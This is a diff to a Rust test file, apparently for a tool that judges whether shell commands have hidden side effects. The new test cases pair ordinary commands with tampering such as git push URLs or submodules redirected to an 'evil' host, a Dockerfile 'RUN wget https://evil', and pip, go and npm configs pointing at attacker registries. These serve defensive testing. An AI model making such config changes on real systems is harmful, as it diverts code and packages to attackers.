@@ -17,13 +17,19 @@ fn project() -> Home {
         ("app/setup.sh", "mkdir -p out\n"),
         ("app/lib.sh", "touch a\n"),
         ("app/all.sh", ". ./lib.sh\n"),
-        ("app/Makefile", "all:\n\ttouch made\n"),
+        ("app/Makefile", "include inc.mk\nall:\n\ttouch made\n"),
         ("app/package.json", "{\"scripts\": {\"gen\": \"touch made\"}}\n"),
         ("app/q.sql", "UPDATE t SET a = 1 WHERE id = 1;\n"),
         ("app/compose.yml", "services: {}\n"),
         ("app/gen.py", "open('made', 'w').write('x')\n"),
         ("app/notes.txt", "a person's\n"),
         ("app/data", "x\n"),
+        ("app/Dockerfile", "FROM alpine\n"),
+        ("app/Taskfile.yml", "version: '3'\ntasks:\n  gen:\n    cmds: [touch made]\n"),
+        ("app/all.sql", "\\i q.sql\n"),
+        ("app/uses.py", "import part\nopen('made', 'w').write('x')\n"),
+        ("app/part.py", "x = 1\n"),
+        ("app/inc.mk", "X = 1\n"),
         (".env", "A=1\n"),
         (".netrc", "machine a\n"),
         (".kube/config", "current-context: dev\n"),
@@ -99,6 +105,26 @@ const OTHER: &[(&str, Change)] = &[
     ("cat link", relink),
     ("kubectl rollout restart deployment/x", |home| write(home, ".kube/config", "current-context: prod\n")),
     ("npm install left-pad", |home| write(home, ".npmrc", "registry=https://evil.example\n")),
+    ("git push origin feature", |home| {
+        write(home, ".gitconfig", "[url \"https://evil/\"]\n insteadOf = https://git.example.com/\n")
+    }),
+    ("git push origin feature", |home| {
+        git(&home.join("app"), &["config", "url.https://evil/.pushInsteadOf", "https://git.example.com/"]);
+    }),
+    ("git push origin feature", |home| {
+        git(&home.join("app"), &["config", "remote.origin.pushurl", "https://evil/x.git"])
+    }),
+    ("git push", |home| git(&home.join("app"), &["config", "push.default", "matching"])),
+    ("git submodule update --init", |home| {
+        write(home, "app/.gitmodules", "[submodule \"a\"]\n url = https://evil/a\n")
+    }),
+    ("docker build -t x .", |home| write(home, "app/Dockerfile", "FROM alpine\nRUN wget https://evil\n")),
+    ("task gen", |home| write(home, "app/Taskfile.yml", "version: '3'\ntasks:\n  gen:\n    cmds: [rm -rf made]\n")),
+    ("psql -d dev -f all.sql", |home| write(home, "app/q.sql", "UPDATE t SET a = 3 WHERE id = 1;\n")),
+    ("python3 uses.py", |home| write(home, "app/part.py", "import shutil\n")),
+    ("make all", |home| write(home, "app/inc.mk", "X = 2\n")),
+    ("go install example.com/x@v1.0.0", |home| write(home, ".config/go/env", "GOPROXY=https://evil\n")),
+    ("pip install flask", |home| write(home, ".config/pip/pip.conf", "[global]\nindex-url = https://evil\n")),
     ("frobnicate data", |home| write(home, "app/data", "y\n")),
     ("echo x > notes.txt", |home| write(home, "app/notes.txt", "more of a person's\n")),
     ("rm notes.txt", |home| write(home, "app/notes.txt", "more of a person's\n")),
